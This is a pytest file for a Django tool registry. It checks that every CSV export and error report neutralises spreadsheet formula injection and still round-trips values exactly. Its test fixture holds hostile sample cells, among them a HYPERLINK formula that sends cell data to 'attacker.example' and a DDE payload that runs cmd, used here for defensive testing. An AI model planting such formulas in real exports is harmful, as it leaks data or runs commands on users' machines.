"""No CSV the registry writes holds a cell a spreadsheet would run as a formula (CSV
injection), and the catalogue CSV still reads back to the very values it was written from."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from rest_framework.test import APIClient

from registry.catalog.csv_safety import csv_cell_value, csv_safe_cell
from registry.models import CatalogJob, Tool
from registry.services.jobs import catalog_export_job_start, catalog_job_row_errors_csv
from tests.factories import ToolFactory, UserFactory

# One value per character a spreadsheet reads as the start of a formula.
DANGEROUS = {
    "equals": '=HYPERLINK("https://attacker.example/?"&A1,"Open")',
    "plus": "+1 555 0100 hotline",
    "minus": "-2+3 for the cells below",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def dangerous_tools():
    """One public tool per dangerous character, in its name, summary and description."""
    organization = ToolFactory().organization
    return [
        ToolFactory(
            organization=organization,
            slug=f"formula-{label}",
            name=value,
            summary=value,
            description=value,
        )
        for label, value in DANGEROUS.items()
    ]


def _cells(text: str) -> dict[str, dict[str, str]]:
    """The rows of a catalogue CSV by tool key."""
    return {row["key"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


def _assert_neutralized(text: str) -> None:
    rows = _cells(text)
    for label, value in DANGEROUS.items():
        row = rows[f"formula-{label}"]
        for column in ("name", "summary", "description"):
            assert not row[column].startswith(FORMULA_STARTS), (label, column, row[column])
            assert row[column] == "'" + value, (label, column)


def test_the_catalogue_csv_download_page_neutralizes_formulas(client, dangerous_tools):
    response = client.get(reverse("catalog-export", kwargs={"fmt": "csv"}))

    assert response.status_code == 200
    _assert_neutralized(response.content.decode())


def test_the_api_csv_export_neutralizes_formulas(dangerous_tools):
    response = APIClient().get("/api/v1/export/", {"format": "csv"})

    assert response.status_code == 200
    _assert_neutralized(response.content.decode())


def test_a_background_csv_export_neutralizes_formulas(
    dangerous_tools, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        job = catalog_export_job_start(actor=UserFactory(), fmt="csv")
    job.refresh_from_db()

    assert job.status == CatalogJob.Status.SUCCEEDED
    _assert_neutralized(job.result)


def test_the_row_error_report_neutralizes_formulas():
    job = CatalogJob.objects.create(
        kind="import",
        format="csv",
        created_by=UserFactory(),
        row_errors=[
            {"row": "line 2", "key": value, "field": "name", "message": value}
            for value in DANGEROUS.values()
        ],
    )

    rows = list(csv.reader(io.StringIO(catalog_job_row_errors_csv(job), newline="")))[1:]

    assert [row[1] for row in rows] == ["'" + value for value in DANGEROUS.values()]
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)


def test_an_exported_csv_imports_back_to_the_same_values(dangerous_tools):
    from registry.catalog import export_catalog, import_catalog_text

    before = {tool.slug: (tool.name, tool.summary, tool.description) for tool in dangerous_tools}
    text = export_catalog("csv")
    Tool.objects.all().delete()

    report = import_catalog_text(text, fmt="csv", actor=None)

    assert report.ok, report.summary()
    after = {
        tool.slug: (tool.name, tool.summary, tool.description)
        for tool in Tool.objects.filter(slug__in=before)
    }
    assert after == before
    assert export_catalog("csv") == text


@pytest.mark.parametrize(
    "value",
    [
        *DANGEROUS.values(),
        "'=already protected by hand",
        "''+two apostrophes",
        "'quoted'",
        "plain text",
        "",
        "'",
        "a = b",
    ],
)
def test_the_csv_guard_and_its_reader_are_exact_inverses(value):
    cell = csv_safe_cell(value)

    assert not cell.startswith(FORMULA_STARTS)
    assert csv_cell_value(cell) == value
